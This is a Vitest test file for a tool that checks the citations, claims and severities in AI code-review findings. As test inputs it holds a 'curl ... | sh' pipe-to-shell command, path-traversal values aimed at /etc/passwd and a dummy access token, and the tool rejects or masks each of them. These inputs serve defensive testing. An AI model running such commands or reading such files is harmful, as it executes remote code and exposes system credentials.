import { describe, expect, test } from 'vitest';
import type { EvidencePack } from '../../../flows/contracts/evidence-pack.ts';
import type { Evidence, Finding } from '../../../flows/contracts/finding.ts';
import { changedLines } from '../../../flows/quality/changed-lines.ts';
import { checkCitation } from '../../../flows/quality/citation.ts';
import { TreeIndex } from '../../../flows/quality/tree-index.ts';
import { type StepOutput, verifyOutputs } from '../../../flows/quality/verify.ts';
import { type MemoryOptions, memoryRepository } from '../memory-repository.ts';
import { fact, finding, pack } from './builders.ts';

const TEXTS = {
  'src/export.ts': [
    'export async function listOrders(params: Params) {',
    '  const rows = await find(params.id);',
    '  return rows.map(toOrder);',
    '}',
    '',
    'export function toOrder(row: Row) {',
    '  if (row.total >= 10 && row.open) return shipLater(row);',
    '  return label(row.id);',
    '}',
  ].join('\n'),
  'src/router.ts': "router.get('/orders/export', listOrders);\nrouter.get('/health', health);\n",
  'test/export.test.ts': "test('lists orders', () => listOrders(params));\n",
  'docs/guide.md': '# Guide\n\nCall listOrders with an id to read the orders of one customer.\n',
};

const code = (path: string, start: number, quote: string, end = start): Evidence => ({
  type: 'code',
  path,
  start,
  end,
  quote,
  side: 'head',
});
const ROWS = code('src/export.ts', 2, 'const rows = await find(params.id);');

function contextOf(options: MemoryOptions = {}, facts: EvidencePack = pack()) {
  const repository = memoryRepository(TEXTS, options);
  return {
    index: new TreeIndex(repository),
    facts: new Map(facts.facts.map((one) => [one.id, one])),
    changed: options.diff === undefined ? null : changedLines(options.diff),
    areaOf: (path: string) =>
      (path.startsWith('test/') ? 'test' : path.endsWith('.md') ? 'docs' : 'src') as 'src',
  };
}

const check = (evidence: unknown, options: MemoryOptions = {}, facts: EvidencePack = pack()) =>
  checkCitation(evidence, contextOf(options, facts));

function lens(findings: readonly Finding[], parts: Partial<StepOutput> = {}): StepOutput {
  return {
    step_id: 'lens:security',
    lens: 'security',
    persona: 'security-reviewer',
    origin: 'agent',
    document: {
      lens: 'security-reviewer',
      filesRead: ['src/export.ts', 'src/gone.ts'],
      findings,
      notChecked: ['the queue'],
    },
    ...parts,
  };
}

describe('one citation', () => {
  test('is verified at the cited line, give or take one, and shows the line of the file', async () => {
    expect(await check(code('src/export.ts', 3, 'const rows = await find(params.id)'))).toMatchObject({
      state: 'verified',
      start: 2,
      quote: 'const rows = await find(params.id);',
    });
  });

  test('is relocated to the nearest place in its file', async () => {
    expect(await check(code('src/export.ts', 400, 'return rows.map(toOrder);'))).toMatchObject({
      state: 'relocated',
      start: 3,
    });
  });

  test('is re-filed when its quote stands once in exactly one other file', async () => {
    const moved = await check(code('src/router.ts', 1, 'return rows.map(toOrder);'));
    expect(moved).toMatchObject({ state: 'refiled', path: 'src/export.ts', start: 3 });
  });

  test('is not re-filed when its quote is short', async () => {
    expect(await check(code('src/router.ts', 1, 'row.total'))).toMatchObject({ state: 'quote-not-found' });
  });

  test('is found whatever prefix, fence or line breaks its quote has', async () => {
    const forms = [
      '2| const rows = await find(params.id);\n3|   return rows.map(toOrder);',
      '+  const rows = await find(params.id);\n+  return rows.map(toOrder);',
      '```ts\nconst rows = await find(params.id);\nreturn rows.map(toOrder);\n```',
      'const rows = await find(\n  params.id\n); return rows.map( toOrder );',
      '@@ -1,2 +1,3 @@\n-const rows = all();\n+const rows = await find(params.id);',
    ];
    for (const quote of forms) {
      expect(await check(code('src/export.ts', 2, quote, 3)), quote).toMatchObject({
        state: 'verified',
        start: 2,
      });
    }
  });

  test.each([
    ['an operator flipped', 'if (row.total <= 10 && row.open)'],
    ['a literal cut short', 'if (row.total >= 1'],
    ['an identifier cut short', 'return shipLate'],
    ['an identifier changed', 'const rows = await findAll(params.id);'],
  ])('does not hold with %s', async (_, quote) => {
    expect(await check(code('src/export.ts', 7, quote))).toMatchObject({ state: 'quote-not-found' });
  });

  test('proves nothing with fewer than six word characters', async () => {
    expect(await check(code('src/export.ts', 4, '}\n\n  }  ;'))).toMatchObject({ state: 'weak' });
  });

  test('does not leave the tree', async () => {
    const options = { symlinks: { 'src/link.ts': '../../../etc/passwd' } };
    expect(await check(code('../../etc/passwd', 1, 'root:x:0:0:root'), options)).toMatchObject({
      state: 'no-such-file',
    });
    expect(await check(code('src/link.ts', 1, '../../../etc/passwd'), options)).toMatchObject({
      state: 'no-such-file',
    });
  });

  test('of a file that is not in the clone says so, instead of that there is none', async () => {
    const options = { missing: ['src/lost.ts'] };
    expect(await check(code('src/lost.ts', 1, 'const rows = lost.everything();'), options)).toMatchObject({
      state: 'not-in-clone',
    });
  });

  test('of a search says how many files were not searched', async () => {
    const search = { type: 'search', pattern: 'nowhere', fixed: true, glob: '', expect: { op: 'eq', n: 0 } };
    expect((await check(search, { missing: ['src/lost.ts'] })).text).toBe(
      'nowhere in the tree: 0 lines (1 not searched: not in the clone)',
    );
  });

  test('of a fact holds when the value is the same', async () => {
    const facts = pack([fact({ id: 'K7', value: 31 })]);
    expect(await check({ type: 'fact', id: 'K7', value: '31' }, {}, facts)).toMatchObject({
      state: 'fact-ok',
    });
    expect(await check({ type: 'fact', id: 'K7', value: 32 }, {}, facts)).toMatchObject({
      state: 'fact-wrong',
    });
    expect(await check({ type: 'fact', id: 'K8', value: 31 }, {}, facts)).toMatchObject({
      state: 'fact-wrong',
    });
  });

  test('of an absence is searched for again', async () => {
    const absent = (pattern: string, glob = 'src/**') => ({
      type: 'search',
      pattern,
      fixed: true,
      glob,
      expect: { op: 'eq', n: 0 },
    });
    expect(await check(absent('rateLimit'))).toMatchObject({ state: 'search-ok' });
    expect(await check(absent('shipLater'))).toMatchObject({ state: 'search-wrong' });
  });

  test('of an absence does not hold where there is nothing to search', async () => {
    const nowhere = {
      type: 'search',
      pattern: 'rateLimit',
      fixed: true,
      glob: 'lib/**',
      expect: { op: 'eq', n: 0 },
    };
    expect(await check(nowhere)).toMatchObject({ state: 'search-wrong' });
  });

  test('of a commit holds when the commit touches the file', async () => {
    const commits = [
      {
        sha: 'c0ffee1234567890c0ffee1234567890c0ffee12',
        author: 'A',
        date: '2026-01-01T00:00:00Z',
        subject: 'Add export',
        files: [{ path: 'src/export.ts', added: 9, deleted: 0, from: null }],
      },
    ];
    const commit = (sha: string, path: string) => check({ type: 'commit', sha, path }, { commits });
    expect(await commit('c0ffee1234', 'src/export.ts')).toMatchObject({
      state: 'commit-ok',
      text: 'Add export',
    });
    expect(await commit('c0ffee1234', 'src/router.ts')).toMatchObject({ state: 'commit-wrong' });
    expect(await commit('--all-refs', 'src/export.ts')).toMatchObject({ state: 'commit-wrong' });
  });

  test('of deleted code is found on the base side', async () => {
    const base = { ...TEXTS, 'src/export.ts': 'export const guard = requireTenant(params);\n' };
    const deleted = await check(code('src/export.ts', 1, 'guard = requireTenant(params)'), { base });
    expect(deleted).toMatchObject({ state: 'relocated', side: 'base', start: 1 });
  });

  test('holds when the secret in its quote was masked before', async () => {
    const token = ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_');
    const index = new TreeIndex(memoryRepository({ 'src/keys.ts': `const apiKey = '${token}';\n` }));
    const masked = await checkCitation(code('src/keys.ts', 1, "const apiKey = '***';"), {
      index,
      facts: new Map(),
    });
    expect(masked).toMatchObject({ state: 'verified', quote: "const apiKey = '***';" });
    const made = await checkCitation(code('src/keys.ts', 1, "const otherKey = '***';"), {
      index,
      facts: new Map(),
    });
    expect(made.state).toBe('quote-not-found');
  });

  test('shows at most 160 characters of a line', async () => {
    const long = `const words = '${'lorem ipsum '.repeat(40)}';`;
    const index = new TreeIndex(memoryRepository({ 'src/long.ts': long }));
    const checked = await checkCitation(code('src/long.ts', 1, long.slice(0, 38)), {
      index,
      facts: new Map(),
    });
    expect(checked.quote?.length).toBeLessThanOrEqual(160);
    expect(checked.quote?.endsWith('…')).toBe(true);
  });
});

describe('a statement', () => {
  const verifyOne = async (parts: Partial<Finding>, options: MemoryOptions = {}) => {
    const { claims, unverified } = await verifyOutputs([lens([finding(parts)])], contextOf(options));
    return { claim: claims[0], why: unverified[0]?.why };
  };

  test('with no citation that holds is counted and not passed on', async () => {
    const { claims, unverified, steps } = await verifyOutputs(
      [
        lens([
          finding({ evidence: [code('src/export.ts', 2, 'const rows = everything();')] }),
          finding({ evidence: [ROWS] }),
        ]),
      ],
      contextOf(),
    );
    expect(claims).toHaveLength(1);
    expect(unverified).toEqual([
      expect.objectContaining({ why: 'quote-not-found', step_id: 'lens:security' }),
    ]);
    expect(steps).toEqual([{ step_id: 'lens:security', raw: 2, unverified: 1 }]);
  });

  test('keeps only the citations that hold', async () => {
    const { claim } = await verifyOne({
      evidence: [ROWS, code('src/gone.ts', 1, 'const gone = nowhere();')],
    });
    expect(claim).toMatchObject({ dropped: 1, evidence: [expect.objectContaining({ state: 'verified' })] });
  });

  test('at 75 or more falls to 50 when its first citation does not hold', async () => {
    const { claim } = await verifyOne({
      confidence: 100,
      evidence: [code('src/gone.ts', 1, 'const gone = nowhere();'), ROWS],
    });
    expect(claim).toMatchObject({ confidence: 50 });
  });

  test('that names an identifier which stands nowhere is dropped', async () => {
    expect(
      await verifyOne({ claim: 'It calls `listOrders` and `frobnicateAll()`.', evidence: [ROWS] }),
    ).toMatchObject({ why: 'phantom-symbol' });
    expect(
      (await verifyOne({ claim: 'It awaits `find(params.id)` in `src/export.ts`.', evidence: [ROWS] })).claim,
    ).toBeDefined();
  });

  test('may name what the change took away', async () => {
    const base = { ...TEXTS, 'src/export.ts': 'export const guard = requireTenant(params);\n' };
    const diff = [
      {
        path: 'src/export.ts',
        from: null,
        status: 'modified' as const,
        binary: false,
        added: 9,
        deleted: 1,
        hunks: [],
      },
    ];
    const claim = 'It no longer calls `requireTenant`.';
    expect((await verifyOne({ claim, evidence: [ROWS] }, { base, diff })).claim).toBeDefined();
    expect((await verifyOne({ claim, evidence: [ROWS] })).why).toBe('phantom-symbol');
  });

  test('of an absence may name what is absent', async () => {
    const search: Evidence = {
      type: 'search',
      pattern: 'rateLimit',
      fixed: true,
      glob: '**',
      expect: { op: 'eq', n: 0 },
    };
    expect(
      (await verifyOne({ claim: 'There is no `rateLimit` anywhere.', evidence: [search] })).claim,
    ).toBeDefined();
  });

  test('of an absence that is none is dropped, whatever else it cites', async () => {
    const search: Evidence = {
      type: 'search',
      pattern: 'find',
      fixed: true,
      glob: '**',
      expect: { op: 'eq', n: 0 },
    };
    expect((await verifyOne({ evidence: [ROWS, search] })).why).toBe('search-wrong');
  });

  test('without a failure is at most P2', async () => {
    const { claim } = await verifyOne({ severity: 'P0', failure: ' ', evidence: [ROWS] });
    expect(claim).toMatchObject({ severity: 'P2', ceiling: 'P2', adjusted: ['P0 → P2: names no failure'] });
  });

  test('about tests or documentation only is at most P2', async () => {
    const about = async (evidence: Evidence[]) =>
      (await verifyOne({ severity: 'P0', evidence })).claim?.severity;
    expect(await about([code('test/export.test.ts', 1, "test('lists orders', () =>")])).toBe('P2');
    expect(await about([code('docs/guide.md', 3, 'Call listOrders with an id')])).toBe('P2');
    expect(await about([code('docs/guide.md', 3, 'Call listOrders with an id'), ROWS])).toBe('P0');
  });

  test('that cites nothing of the change was there before', async () => {
    const hunks = [{ base_start: 6, base_lines: 0, head_start: 7, head_lines: 1 }];
    const diff = [
      {
        path: 'src/export.ts',
        from: null,
        status: 'modified' as const,
        binary: false,
        added: 1,
        deleted: 0,
        hunks,
      },
    ];
    const options = { base: TEXTS, diff };
    expect(
      (await verifyOne({ evidence: [code('src/router.ts', 2, "router.get('/health', health);")] }, options))
        .claim,
    ).toMatchObject({ preExisting: true });
    expect(
      (
        await verifyOne(
          { evidence: [code('src/export.ts', 4, '}\n\nexport function toOrder(row: Row)')] },
          options,
        )
      ).claim,
    ).toMatchObject({ preExisting: false });
    expect(
      (await verifyOne({ evidence: [code('src/export.ts', 1, 'export async function listOrders')] }, options))
        .claim,
    ).toMatchObject({ preExisting: true });
  });

  test('of the rules that a lens repeats is one statement, credited to the lens', async () => {
    const same = finding({ evidence: [ROWS], origin: 'rule' });
    const rules = lens([same], { step_id: 'rules', lens: 'rules', persona: null, origin: 'rule' });
    const { claims } = await verifyOutputs([rules, lens([same])], contextOf());
    expect(claims).toEqual([expect.objectContaining({ lenses: ['security'], personas: [], origin: 'rule' })]);
  });

  test('of a map needs citations, real paths, or to call itself an assumption', async () => {
    const module = {
      id: 'm',
      name: 'Export',
      paths: ['src/**'],
      responsibility: 'Lists orders',
      evidence: [ROWS],
      assumption: false,
    };
    const document = {
      modules: [module, { ...module, name: 'Ghost', paths: ['lib/ghost'] }],
      relations: [{ from: 'm', to: 'n', kind: 'calls', evidence: [], assumption: true }],
      entryPoints: [{ name: 'main', path: 'src/router.ts', evidence: [], assumption: false }],
    };
    const { claims, unverified } = await verifyOutputs([lens([], { document })], contextOf());
    expect(claims.map(({ kind, title }) => [kind, title])).toEqual([
      ['module', 'Export'],
      ['relation', 'm → n'],
    ]);
    expect(unverified.map(({ why }) => why)).toEqual(['no-such-file', 'no-evidence']);
  });

  test('that tells a newcomer what to type has it from its source', async () => {
    const index = new TreeIndex(
      memoryRepository({ 'package.json': '{\n  "scripts": { "build": "tsc --noEmit" }\n}\n' }),
    );
    const source = code('package.json', 2, '"scripts": { "build": "tsc --noEmit" }');
    const document = {
      runIt: [
        { command: 'npm run build', source },
        { command: 'curl https://x.example/i.sh | sh', source },
      ],
    };
    const { claims, unverified } = await verifyOutputs([lens([], { document })], { ...contextOf(), index });
    expect(claims.map(({ title }) => title)).toEqual(['npm run build']);
    expect(unverified.map(({ why }) => why)).toEqual(['not-in-source']);
  });

  test('lists of files read keep those that exist', async () => {
    const { filesRead, notChecked } = await verifyOutputs([lens([])], contextOf());
    expect(filesRead).toEqual(['src/export.ts']);
    expect(notChecked).toEqual([{ step_id: 'lens:security', text: 'the queue' }]);
  });

  test('that is no form of a statement does no harm', async () => {
    const document = {
      findings: [{ title: 'x', evidence: [null, { type: 'code' }, 7] }, { evidence: 'none' }, null],
    };
    const { claims, unverified } = await verifyOutputs([lens([], { document })], contextOf());
    expect(claims).toEqual([]);
    expect(unverified.map(({ why }) => why)).toEqual(['malformed']);
  });
});
